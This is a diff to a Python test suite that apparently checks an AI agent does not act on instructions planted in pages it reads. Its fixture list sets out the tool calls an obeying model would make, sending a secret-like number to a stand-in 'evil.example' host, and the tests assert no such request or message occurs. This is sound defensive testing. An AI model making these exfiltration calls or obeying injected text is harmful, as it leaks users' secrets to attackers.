@@ -57,7 +57,11 @@ OBEYED: tuple[tuple[str, dict[str, Any]], ...] = (
     ("echo", {"value": f"{EVIL}/?k=214"}),
     *((name, {"url": url}) for name in NETWORK for url in WAYS),
     *((name, {"url": PAGE, "headers": {"x-k": "214"}}) for name in ("http_get", "url_fetch", "http_request")),
+    ("search_web", {"query": "open 214"}),
+    ("web_search", {"query": "open 214", "max_results": 20}),
 )
+# The one way that is left open: the words of a search go to whoever the owner lets search (docs/security.md).
+SEARCHED = "/search?q=open+214&format=json"
 # How it begins, by what it is asked.
 FIRST: tuple[tuple[str, tuple[str, dict[str, Any]]], ...] = (
     (PDF, ("read_page", {"url": PDF})),
@@ -183,11 +187,15 @@ CARRIERS = (
 )
 
 
+def led_away(server: WebServer) -> list[str]:
+    """Where the number went, or somebody who wants it was asked; but for what was searched for."""
+    asked = [f"{one.headers.get('host')}{one.path} {one.headers}" for one in server.asked if one.path != SEARCHED]
+    return [one for one in asked if "214" in one or one.partition("/")[0].endswith("evil.example")]
+
+
 async def effects(home: House, server: WebServer) -> list[str]:
     """What came of it, wherever it shows."""
-    found = [f"{asked.headers.get('host')}{asked.path}" for asked in server.asked if "214" in asked.path]
-    found += [f"said {one.headers}" for one in server.asked if "214" in str(one.headers)]
-    found += [f"asked {host}" for one in server.asked if "evil" in (host := one.headers.get("host", ""))]
+    found = led_away(server)
     found += [f"to others: {one.text}" for one in home.adapter.sent if one.to.chat != "1" and "Eve" in one.text]
     found += [f"to others: {one.text}" for one in home.adapter.sent if one.to.chat != "1" and "214" in one.text]
     found += [
@@ -213,6 +221,16 @@ async def test_nothing_comes_of_a_model_that_obeys_what_it_reads(
     assert any(ORDER in str(one.messages) for one in home.model.requests), "it has read nothing"
     assert any(one.get("role") == "tool" for one in home.model.requests[-1].messages)
     assert await effects(home, server) == []
+
+
+@pytest.mark.databases("sqlite")
+async def test_what_it_searches_for_reaches_the_provider_and_nobody_else(home: House, server: WebServer) -> None:
+    await a_page(home)
+    await background(home)
+    searched = [one for one in server.asked if one.path == SEARCHED]
+    # At most 30 an hour, which are counted as those of the person.
+    assert {one.headers["host"] for one in searched} == {"example.org"}
+    assert await home.column("SELECT sum(searches) FROM fetch_use") == [len(searched)]
 
 
 @pytest.mark.databases("sqlite", "postgres")
@@ -300,8 +318,7 @@ async def test_what_was_shown_or_delivered_of_others_binds_the_answers_that_foll
     assert home.model is not None
     assert any(one.get("role") == "tool" for one in home.model.requests[-1].messages), "it has read nothing"
     assert await home.column("SELECT count(*) FROM task WHERE tainted = 0") == [0]
-    assert [asked.path for asked in server.asked if "214" in f"{asked.path} {asked.headers}"] == []
-    assert [asked.path for asked in server.asked if "evil" in asked.headers.get("host", "")] == []
+    assert led_away(server) == []
 
 
 @pytest.mark.databases("sqlite")
